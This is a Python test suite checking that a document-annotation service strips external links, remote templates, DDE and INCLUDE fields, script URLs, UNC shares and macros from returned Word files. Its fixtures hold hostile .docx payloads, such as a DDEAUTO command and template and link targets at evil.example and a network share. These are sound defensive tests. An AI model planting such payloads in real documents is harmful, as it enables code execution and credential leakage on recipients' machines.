"""Files given back with comments carry nothing that leads outside or runs, and all of their looks.

What a person may click, a web page or a mail address, stays; see service/present/outside.py.
"""

import re
import zipfile
from pathlib import Path

import pytest
from lxml import etree

from service.flags import Flag
from service.present.annotate import annotate
from service.readers import read_here
from tests.present.word_files import NAMESPACES, W, paragraph, related, run, shape, word_style

LOOK = '<w:b/><w:color w:val="C00000"/><w:sz w:val="32"/>'
EXTERNAL = re.compile(rb'TargetMode="External"')


def _drawn(element: str) -> str:
    return f"<w:r><w:drawing>{element}</w:drawing></w:r>"


SHARE = "\\\\203.0.113.9\\"
TEMPLATE = '<w:attachedTemplate r:id="rX"/>'
LINKED_OBJECT = '<w:r><w:object><o:OLEObject r:id="rX"/></w:object></w:r>'
OUT = (
    ("attachedTemplate", "https://evil.example/t.dotm", TEMPLATE),
    ("attachedTemplate", "file:////203.0.113.9/t.dotm", TEMPLATE),
    ("image", "https://evil.example/p.png", _drawn('<a:blip r:link="rX"/>')),
    ("image", SHARE + "p.png", '<w:r><w:pict><v:imagedata r:id="rX"/></w:pict></w:r>'),
    ("oleObject", "file:///c:/evil.xls", LINKED_OBJECT),
    ("subDocument", "evil.docx", '<w:subDoc r:id="rX"/>'),
    ("aFChunk", "https://evil.example/a.html", '<w:altChunk r:id="rX"/>'),
    ("frame", "https://evil.example/f.htm", '<w:src r:id="rX"/>'),
    ("mailMergeSource", "file:///c:/evil.csv", '<w:dataSource r:id="rX"/>'),
    ("video", "https://evil.example/v", _drawn('<a:videoFile r:link="rX"/>')),
    *(
        ("hyperlink", target, f'<w:hyperlink r:id="rX">{run("链接文字", LOOK)}</w:hyperlink>')
        for target in (
            "file:///c:/evil.exe",
            "javascript:alert('evil')",
            "JaVaScRiPt:evil()",
            "vbscript:evil",
            "data:text/html,evil",
            SHARE + "evil",
            "//203.0.113.9/evil",
            "ms-word:ofe|u|https://evil.example/x.docx",
            "../evil.exe",
            " javascript:evil",
        )
    ),
    ("hyperlink", "file:///c:/evil", _drawn('<a:hlinkClick r:id="rX"/>')),
)
LIVE = (
    'DDEAUTO c:\\\\windows\\\\evil.exe "/k calc"',
    "dde excel evil A1",
    ' INCLUDETEXT "https://evil.example/x" ',
    'INCLUDEPICTURE "\\\\\\\\203.0.113.9\\\\evil.png" \\d',
    "LINK Excel.Sheet.8 evil.xls",
    "IMPORT evil.png",
    "DATABASE \\c evil",
    "MACROBUTTON evil 点我",
    "RD evil.docx",
    'HYPERLINK "file:///c:/evil.exe"',
    'HYPERLINK \\t "javascript:evil" "javascript:evil"',
    "PRINT evil",
)
KEPT = (
    "PAGE",
    "DATE",
    "TOC \\o",
    'HYPERLINK "https://example.org/a"',
    "HYPERLINK \\l 书签",
    "= 1+1",
)
O = 'xmlns:o="urn:schemas-microsoft-com:office:office"'  # noqa: E741  # its usual prefix


def _flag(text: str) -> Flag:
    start = text.index("作风不够")
    return Flag(
        id="K0001", rule="generic.wording", level="warning", start=start, end=start + 4,
        text="作风不够", message="空", ask="哪一件？",
    )  # fmt: skip


def _field(code: str, *, split: bool = False, nested: bool = False) -> str:
    mark = f'<w:r><w:rPr>{LOOK}</w:rPr><w:fldChar w:fldCharType="{{}}"/></w:r>'
    words = [code[:4], code[4:]] if split else [code]
    told = "".join(f"<w:r><w:instrText>{_escaped(word)}</w:instrText></w:r>" for word in words)
    if nested:
        told = mark.format("begin") + "<w:r><w:instrText>QUOTE evil</w:instrText></w:r>"
        told += mark.format("end") + f"<w:r><w:instrText>{_escaped(code)}</w:instrText></w:r>"
    shown = run("域的结果", LOOK)
    return mark.format("begin") + told + mark.format("separate") + shown + mark.format("end")


def _escaped(code: str) -> str:
    return code.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")


def _given_back(body: str, folder: Path, more: dict[str, str] | None = None) -> dict[str, bytes]:
    source, target = folder / "in.docx", folder / "out.docx"
    word_style(source, paragraph(run("作风不够扎实", LOOK)) + body, more)
    with zipfile.ZipFile(source) as archive:
        wide = archive.read("word/document.xml").replace(b"<w:body>", f"<w:body {O}>".encode(), 1)
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(source, "w") as archive:
        for name, data in {**parts, "word/document.xml": wide}.items():
            archive.writestr(name, data)
    text = read_here(source)
    assert annotate(source, text, [_flag(text.text)], target) == []
    with zipfile.ZipFile(target) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def _looks(path: Path) -> list[tuple[str, bytes]]:
    """Every visible character with its formatting."""
    return [(char, look) for char, look, _ in shape(path)[0]]


def _visible(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as archive:
        root = etree.fromstring(archive.read("word/document.xml"))
    found = []
    for piece in root.iter(W + "t"):
        holder = piece.getparent()
        look = holder.find(W + "rPr") if holder is not None else None
        seen = b"" if look is None else etree.tostring(look, method="c14n")
        found += [(char, seen) for char in piece.text or ""]
    return found


@pytest.mark.parametrize(("kind", "target", "element"), OUT)
def test_nothing_that_leads_outside_is_given_back(
    kind: str, target: str, element: str, tmp_path: Path
) -> None:
    body = paragraph(element) if not element.startswith("<w:altChunk") else element
    drawing = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    body = body.replace("<w:p>", f"<w:p {drawing} {O}>", 1)
    links = related("rX", _escaped(target), kind, outside=True)
    parts = _given_back(body, tmp_path, {"document/links": links})
    everything = b"".join(parts.values())
    assert b"evil" not in everything
    assert b"203.0.113.9" not in everything
    assert b'"rX"' not in everything
    outside = [data for name, data in parts.items() if EXTERNAL.search(data)]
    assert all(data.count(b"External") == data.count(b"https://example.org/a") for data in outside)
    assert _visible(tmp_path / "out.docx") == _visible(tmp_path / "in.docx")


@pytest.mark.parametrize("code", LIVE)
@pytest.mark.parametrize("form", ["complex", "split", "simple", "in a note"])
def test_no_field_that_fetches_or_runs_is_given_back(code: str, form: str, tmp_path: Path) -> None:
    more: dict[str, str] = {}
    body = paragraph(_field(code, split=form == "split"))
    if form == "simple":
        simple = f'<w:fldSimple w:instr="{_escaped(code)}">{run("域的结果", LOOK)}</w:fldSimple>'
        body = paragraph(simple)
    if form == "in a note":
        note = f'<w:footnote w:id="2">{body}</w:footnote>'
        more = {"footnotes": f"<w:footnotes {NAMESPACES}>{note}</w:footnotes>"}
        body = ""
    parts = _given_back(body, tmp_path, more)
    assert b"evil" not in b"".join(parts.values())
    assert _visible(tmp_path / "out.docx") == _visible(tmp_path / "in.docx")
    shown = parts["word/footnotes.xml" if more else "word/document.xml"]
    assert "域的结果".encode() in shown


def test_a_field_named_by_another_field_is_cut_too(tmp_path: Path) -> None:
    parts = _given_back(paragraph(_field(" c:\\\\evil.exe", nested=True)), tmp_path)
    assert b"evil.exe" not in parts["word/document.xml"]


@pytest.mark.parametrize("code", KEPT)
def test_a_harmless_field_stays_as_it_is(code: str, tmp_path: Path) -> None:
    parts = _given_back(paragraph(_field(code)), tmp_path)
    assert _escaped(code).replace("&quot;", '"').encode() in parts["word/document.xml"]
    assert _looks(tmp_path / "out.docx") == _looks(tmp_path / "in.docx")


@pytest.mark.parametrize(
    "target", ["https://example.org/b", "http://gov.example/x", "mailto:a@b.cn"]
)
def test_a_link_to_a_page_or_an_address_stays(target: str, tmp_path: Path) -> None:
    links = related("rX", target, "hyperlink", outside=True)
    body = paragraph(f'<w:hyperlink r:id="rX">{run("链接", LOOK)}</w:hyperlink>')
    parts = _given_back(body, tmp_path, {"document/links": links})
    assert target.encode() in parts["word/_rels/document.xml.rels"]


def test_an_embedded_web_page_and_macros_are_left_behind(tmp_path: Path) -> None:
    links = related("rX", "evil.xml", "aFChunk") + related("rV", "vba.xml", "vbaProject")
    more = {
        "document/links": links,
        "word/evil.xml": "<html/>",
        "word/vba.xml": "<macro/>",
    }
    parts = _given_back('<w:altChunk r:id="rX"/>', tmp_path, more)
    assert {name for name in parts if "evil" in name or "vba" in name} == set()
    assert b"altChunk" not in parts["word/document.xml"]
